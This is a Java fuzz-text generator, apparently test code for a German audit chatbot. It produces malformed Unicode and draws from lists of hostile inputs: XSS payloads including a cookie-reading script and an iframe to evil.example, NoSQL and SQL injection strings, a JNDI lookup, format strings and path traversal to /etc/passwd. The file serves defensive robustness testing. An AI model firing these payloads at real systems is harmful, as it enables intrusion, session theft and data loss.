package de.auditbot.fuzz;

import java.util.List;
import java.util.Random;

/**
 * Generates hostile text from a seeded {@link Random}: random code points of every plane, lone and
 * swapped surrogates, right-to-left and zero-width marks, stacked combining marks, control
 * characters, markup and script, operator strings, and words the bot understands, so that some
 * inputs reach deep into an audit. The same seed gives the same texts.
 */
public final class FuzzText {

    /** Markup and script that must never reach a page or a room as markup. */
    public static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            "\"><script>alert(document.cookie)</script>", "<a href=\"javascript:alert(1)\">klick</a>",
            "<iframe src=//evil.example></iframe>", "<b>fett</b>", "<style>*{display:none}</style>",
            "</textarea><script>x</script>", "<!--", "]]><x>", "&lt;script&gt;", "&#60;script&#62;",
            "<mx-reply><blockquote>fake</blockquote></mx-reply>", "<font color=red>rot</font>",
            "javascript:alert(1)", "'; alert(1); '", "{{7*7}}", "${7*7}", "#{7*7}");

    /** Strings that look like query operators or injections in other stores and template engines. */
    public static final List<String> OPERATORS = List.of(
            "{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(5000)\"}", "$gt", "$where", "$regex", "$$ROOT",
            "'; db.dropDatabase(); '", "\" || \"1\"==\"1", "1; DROP TABLE conversations", "${jndi:ldap://x/a}",
            "%s%s%s%n", "{0}{1}", "../../etc/passwd", "..\\..\\windows", "%00", "\\u0000", "null", "undefined");

    /** Words that move a conversation on, so that fuzzing reaches audits, check-ins and results. */
    public static final List<String> WORDS = List.of(
            "ja", "nein", "teilweise", "weiß nicht", "trifft nicht zu", "überspringen", "Audit starten", "Hilfe",
            "Status", "Ergebnis", "Bericht", "warum", "Verlauf", "Check-in", "English", "Deutsch", "Pause", "weiter",
            "zurück", "abbrechen", "1", "2", "yes", "partly", "ja, siehe https://wiki.example.org/a?b=<c>&d=\"e\"",
            "Was bedeutet Prinzip 5?", "Prinzip 3 ändern", "Meine Daten löschen");

    private static final int[] RTL_AND_INVISIBLE = {0x202E, 0x202D, 0x2066, 0x2067, 0x2068, 0x2069, 0x200F, 0x200E,
        0x061C, 0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x180E, 0x2028, 0x2029, 0x05D0, 0x05E9, 0x0627,
        0x0644, 0xFFFD, 0xFFFE, 0xFFFF};

    private final Random random;

    public FuzzText(Random random) {
        this.random = random;
    }

    /** A text of one of many kinds, mostly short; rarely about one megabyte. */
    public String next() {
        return switch (random.nextInt(14)) {
            case 0 -> codePoints(1 + random.nextInt(40), 0x10FFFF);
            case 1 -> codePoints(1 + random.nextInt(40), 0xFFFF);
            case 2 -> surrogates();
            case 3 -> pick(RTL_AND_INVISIBLE, 1 + random.nextInt(12)) + pick(WORDS);
            case 4 -> combining(pick(WORDS));
            case 5 -> controls(1 + random.nextInt(20));
            case 6 -> pick(MARKUP);
            case 7 -> pick(OPERATORS);
            case 8 -> mix();
            case 9 -> random.nextInt(50) == 0 ? huge() : "a".repeat(3_990 + random.nextInt(20));
            case 10 -> pick(WORDS) + " " + pick(MARKUP);
            default -> pick(WORDS);
        };
    }

    /** About one megabyte of text, with a few characters outside ASCII. */
    public String huge() {
        StringBuilder out = new StringBuilder(1 << 20);
        while (out.length() < (1 << 20)) {
            out.append(random.nextBoolean() ? "Jaaaaaaaaaaaaaaaaaaaaaaaaaaaaa " : "ü€𝄞<b>\u202E ");
        }
        return out.toString();
    }

    public String pick(List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    private String mix() {
        StringBuilder out = new StringBuilder();
        for (int i = 0, n = 2 + random.nextInt(5); i < n; i++) {
            out.append(switch (random.nextInt(5)) {
                case 0 -> pick(WORDS);
                case 1 -> pick(MARKUP);
                case 2 -> pick(OPERATORS);
                case 3 -> controls(2);
                default -> codePoints(3, 0x10FFFF);
            });
        }
        return out.toString();
    }

    private String codePoints(int count, int max) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.appendCodePoint(random.nextInt(max + 1));
        }
        return out.toString();
    }

    /** Lone high, lone low and swapped surrogates around ordinary words. */
    private String surrogates() {
        char high = (char) (0xD800 + random.nextInt(0x400));
        char low = (char) (0xDC00 + random.nextInt(0x400));
        return switch (random.nextInt(4)) {
            case 0 -> "ja" + high;
            case 1 -> low + "nein";
            case 2 -> "" + low + high + " teilweise";
            default -> high + "\uD83D\uDC4D" + low;
        };
    }

    private String combining(String word) {
        StringBuilder out = new StringBuilder();
        word.codePoints().forEach(c -> {
            out.appendCodePoint(c);
            for (int i = random.nextInt(30); i > 0; i--) {
                out.appendCodePoint(0x0300 + random.nextInt(0x70));
            }
        });
        return out.toString();
    }

    private String controls(int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            int c = random.nextInt(3) == 0 ? 0x80 + random.nextInt(0x20) : random.nextInt(0x20);
            out.append((char) (random.nextInt(10) == 0 ? 0x7F : c));
        }
        return out.toString();
    }

    private String pick(int[] codePoints, int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.appendCodePoint(codePoints[random.nextInt(codePoints.length)]);
        }
        return out.toString();
    }
}
